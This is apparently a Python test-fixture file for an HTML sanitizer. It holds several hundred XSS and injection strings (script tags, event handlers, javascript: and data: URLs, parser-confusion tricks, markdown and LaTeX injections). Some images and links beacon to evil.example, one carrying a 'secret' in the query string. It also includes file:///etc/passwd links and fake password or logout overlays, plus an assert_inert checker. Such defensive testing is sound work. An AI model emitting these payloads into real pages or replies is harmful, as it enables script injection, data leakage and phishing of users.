"""Texts that a model could write to run a script, load from a stranger or fake a part of the page.

Scripts call alert(1); everything foreign is at evil.example, so a browser test can count both.
`assert_inert` says whether HTML made of such a text could do anything.
"""

import re
from html.parser import HTMLParser

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<scRipt >alert(1)</scRipt >",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<script\t>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    '<script src="https://evil.example/x.js" async>',
    "<script type=module>import 'https://evil.example/x.js'</script>",
    "<script type=text/vbscript>MsgBox(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</p><script>alert(1)</script><p>",
    "</code></pre><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<?php echo '<script>alert(1)</script>'; ?>",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<script>alert(1)",
    "<script>alert(1)//",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\\<script>alert(1)\\</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]

HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'>",
    '<img src="x" onerror="alert(1)"/>',
    "<img/src=x/onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)>",
    "<img src=x\nonerror\n=\nalert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<img src=x onerror=alert`1`>",
    "<img src=x onerror=alert(1)//",
    '<img """><img src=x onerror=alert(1)>">',
    "<img src='x' title='> <img src=x onerror=alert(1)>'>",
    "<svg/onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><g onload=alert(1)></g></svg>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<body onhashchange=alert(1)><a href=#x>x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<button onclick=alert(1)>Regenerate</button>",
    "<details open ontoggle=alert(1)>",
    "<dialog open onclose=alert(1)>",
    "<video src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div onmouseover=alert(1)>x</div>",
    "<div style=animation-name:x onanimationstart=alert(1)>",
    "<div contenteditable onblur=alert(1) autofocus>",
    "<p onpointerenter=alert(1)>x</p>",
    "<a onclick=alert(1)>x</a>",
    "<a href=# onfocus=alert(1) autofocus>x</a>",
    "<form onsubmit=alert(1)><button>x</button></form>",
    "<form oninput=alert(1)><input></form>",
    "<isindex type=image src=x onerror=alert(1)>",
    "<object onerror=alert(1) data=x>",
    "<style onload=alert(1)></style>",
    "<link rel=stylesheet href=x onerror=alert(1)>",
    "<math onclick=alert(1)>x</math>",
    "<custom-element onclick=alert(1) tabindex=1 id=x>",
    "<x onclick=alert(1)>x</x>",
    "<ul><li onclick=alert(1)>x</li></ul>",
    "<div popover id=x onbeforetoggle=alert(1)>",
]

LOADS = [
    "![x](http://evil.example/a.png)",
    "![](https://evil.example/a.png)",
    "![x](//evil.example/a.png)",
    "![x](\\\\evil.example\\a.png)",
    "![x](<https://evil.example/a b.png>)",
    '![x](https://evil.example/a.png "title")',
    '![x](https://evil.example/a.png "\\" onerror=alert(1) ")',
    "![x][pic]\n\n[pic]: https://evil.example/a.png",
    "![pic]\n\n[pic]: <https://evil.example/a.png> 'x'",
    "![pic][]\n\n[pic]: https://evil.example/a.png",
    "[![x](https://evil.example/a.png)](https://evil.example/)",
    "![![x](https://evil.example/a.png)](https://evil.example/b.png)",
    "![x](https://evil.example/a.png?q=the+secret+of+the+reader)",
    '![" onerror="alert(1)](https://evil.example/a.png)',
    '![x](https://evil.example/"onerror="alert(1))',
    "![x](https://evil.example/'onerror='alert(1))",
    "![<img src=x onerror=alert(1)>](https://evil.example/a.png)",
    "![x](data:image/svg+xml;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+)",
    "![x](javascript:alert(1))",
    "![x](blob:https://evil.example/1)",
    "![x](/logout)",
    "![x](logout)",
    "<img src=https://evil.example/a.png>",
    "<img srcset='https://evil.example/a.png 1x'>",
    "<picture><source srcset=https://evil.example/a.png><img></picture>",
    "<video poster=https://evil.example/a.png>",
    "<audio src=https://evil.example/a.mp3 autoplay>",
    "<track src=https://evil.example/a.vtt default>",
    "<input type=image src=https://evil.example/a.png>",
    "<table background=https://evil.example/a.png><tr><td>x</table>",
    "<td background=https://evil.example/a.png>",
    "<div style='background:url(https://evil.example/a.png)'>x</div>",
    "<div style=background-image:\\75rl(https://evil.example/a.png)>x</div>",
    "<style>@import 'https://evil.example/a.css';</style>",
    "<style>*{background:url(https://evil.example/a.png)}</style>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<link rel=prefetch href=https://evil.example/>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=https://evil.example/x.swf></object>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=https://evil.example/x.svg>",
    "<applet code=x archive=https://evil.example/x.jar>",
    "<svg><image href=https://evil.example/a.png /></svg>",
    "<svg><use href='https://evil.example/a.svg#x' /></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><style>@import url(https://evil.example/a.css)</style></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><foreignObject><iframe src=https://evil.example/></foreignObject></svg>",
    "<bgsound src=https://evil.example/a.mid>",
    "<img longdesc=https://evil.example lowsrc=https://evil.example dynsrc=//evil.example>",
    "<a ping=https://evil.example/ href=https://evil.example/>x</a>",
    "<q cite=https://evil.example/>x</q>",
    "<html manifest=https://evil.example/x>",
]

ADDRESSES = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](&#0000106avascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&#x3A;alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\x00javascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](\u2028javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](< javascript:alert(1)>)",
    "[x]( javascript:alert(1) )",
    "[x](javascript://evil.example/%0aalert(1))",
    "[x](javascript:alert(1)//https://evil.example)",
    "[x](j\\avascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](DATA:text/html,x)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](filesystem:https://evil.example/1)",
    "[x](view-source:https://evil.example)",
    "[x](about:blank)",
    "[x](intent://evil.example#Intent;end)",
    "[x](ms-msdt:/id)",
    "[x](jar:https://evil.example!/x)",
    "[x](feed:javascript:alert(1))",
    "[x](//evil.example/)",
    "[x](\\\\evil.example)",
    "[x](/logout)",
    "[x](?next=/logout)",
    "[x](#header)",
    "[x](../admin/)",
    "[x](https:/\\evil.example)",
    "[x](https:javascript:alert(1))",
    "[x](http://)",
    '[x](https://evil.example/"onmouseover="alert(1))',
    "[x](https://evil.example/'onmouseover='alert(1))",
    '[x](https://evil.example "\\" onclick=\\"alert(1)")',
    "[x](https://evil.example '\" onclick=\"alert(1)')",
    "[x](https://evil.example><script>alert(1)</script>)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,x>",
    "<vbscript:x>",
    '<https://evil.example/"onclick=alert(1)>',
    "<https://evil.example/?<script>alert(1)</script>>",
    "javascript:alert(1)",
    'https://evil.example/"onclick="alert(1)',
    "www.evil.example/<script>alert(1)</script>",
    "[x]\n\n[x]: javascript:alert(1)",
    "[x]: javascript:alert(1) 'y'\n\n[x]",
    "[x][y]\n\n[y]: <data:text/html,<script>alert(1)</script>>",
    '[x]\n\n[x]: https://evil.example "\\" onclick=alert(1)"',
    "[<img src=x onerror=alert(1)>](https://evil.example)",
    "[x](mailto:a@b.example?subject=<script>alert(1)</script>)",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<area href=javascript:alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<math xlink:href=javascript:alert(1)>x</math>",
]

CONFUSIONS = [
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<svg><title><style><img src='</style><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<a id=x><a id=x name=y href='javascript:alert(1)'>",
    "<form id=content name=cookie><input name=attributes></form>",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\text{</mtext></math><script>alert(1)</script>}$",
    "$\\text{&lt;img src=x onerror=alert(1)&gt;}$",
    "$$\n\\text{<script>alert(1)</script>}\n$$",
    "$$\n</math><script>alert(1)</script>\n$$",
    "\\(\\href{javascript:alert(1)}{x}\\)",
    "\\[\\url{javascript:alert(1)}\\]",
    "$\\style{background:url(https://evil.example/a.png)}{x}$",
    '$\\class{x" onclick="alert(1)}{x}$',
    '$\\color{red" onclick="alert(1)}x$',
    "$\\includegraphics{https://evil.example/a.png}$",
    '$\\begin{array}{c" onclick="alert(1)} x \\end{array}$',
    "$<script>alert(1)</script>$",
    "$\\unicode{x3c}script>alert(1)$",
    "$\\mathrm{<style>*{x:url(https://evil.example/)}</style>}$",
    "```html\n<script>alert(1)</script>\n```",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    '```x"onclick="alert(1)\nx\n```',
    "```python onload=alert(1)\nx\n```",
    "```<img/src=x/onerror=alert(1)>\nx\n```",
    '~~~ html " onmouseover=alert(1)\n<img src=x onerror=alert(1)>\n~~~',
    "```html\n<script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "``</code><script>alert(1)</script>``",
    "    <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "> <img src=x onerror=alert(1)>",
    "- <svg/onload=alert(1)>\n- [x](javascript:alert(1))",
    "| <script>alert(1)</script> |\n|:-:|\n| <img src=x onerror=alert(1)> |",
    '| x |\n|:-" onclick="alert(1)-:|\n| y |',
    "1. <iframe srcdoc=x>\n\n   <script>alert(1)</script>",
    "**<script>alert(1)</script>**",
    "*[x](javascript:alert(1))*",
    "~~<img src=x onerror=alert(1)>~~",
    "x<script>alert(1)</script>\n===",
    "<div\n\n<script>alert(1)</script>\n\n>",
    "<!--\n\n<script>alert(1)</script>\n\n-->",
    "{{ constructor.constructor('alert(1)')() }}",
    "{% load static %}{{ request }}",
    "${alert(1)}",
    "<div x-data x-init=alert(1) hx-get=https://evil.example/ hx-trigger=load>",
    "<div data-controller=x data-action=click->alert#1>",
    "<turbo-stream action=append target=x><template><script>alert(1)</script></template>",
    "<label for=prompt>Type your password</label><input id=prompt>",
    "<div class='notice danger' role=alert id=composer>You are logged out</div>",
    "<div style=position:fixed;inset:0;z-index:9999>x</div>",
    "\u202e<script>alert(1)</script>\u202c",
]

PAYLOADS = tuple(SCRIPTS + HANDLERS + LOADS + ADDRESSES + CONFUSIONS)

_NAMES = """
    a blockquote br code div em figcaption figure h3 h4 h5 h6 hr li ol p pre s span strong table
    tbody td th thead tr ul math menclose mfrac mi mmultiscripts mn mo mover mpadded mphantom
    mprescripts mroot mrow ms mspace msqrt mstyle msub msubsup msup mtable mtd mtext mtr munder
    munderover none
"""
TAGS = frozenset(_NAMES.split())
HARMLESS = {"class", "dir", "rel", "target", "start", "title", "data-language"}
ADDRESS = re.compile(r"(https?://[^/]|mailto:)", re.IGNORECASE)


class Reader(HTMLParser):
    """Collects what a browser would find: elements with their attributes, and the text."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.elements = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl):
        raise AssertionError(f"a declaration: {decl}")

    def handle_pi(self, data):
        raise AssertionError(f"an instruction: {data}")


def assert_inert(html):
    """Only known elements, only harmless attributes, only web and mail addresses in links."""
    for tag, attributes in Reader(html).elements:
        assert tag in TAGS, tag
        for name, value in attributes.items():
            assert not name.startswith("on"), name
            if tag == "a" and name == "href":
                assert ADDRESS.match(value), value
            elif tag.startswith("m") or tag == "none":
                assert name not in ("style", "href", "src", "xlink:href", "actiontype"), name
            else:
                assert name in HARMLESS, (tag, name)
        if tag == "a" and "href" in attributes:
            assert attributes["target"] == "_blank"
            assert set(attributes["rel"].split()) == {"noopener", "noreferrer", "nofollow"}
